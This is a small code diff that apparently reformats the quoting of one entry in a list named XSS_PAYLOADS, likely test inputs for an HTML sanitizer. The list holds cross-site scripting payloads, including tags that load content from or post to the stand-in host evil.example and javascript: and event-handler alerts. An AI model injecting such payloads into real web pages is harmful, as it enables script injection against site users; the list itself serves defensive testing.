@@ -21,7 +21,7 @@ XSS_PAYLOADS = [
     '<object data="https://evil.example/x.swf"></object>',
     '<form action="https://evil.example/"><input name="q"></form>',
     '<a href="https://example.org/" onmouseover="alert(1)">ok</a>',
-    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
+    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
 ]
 
 
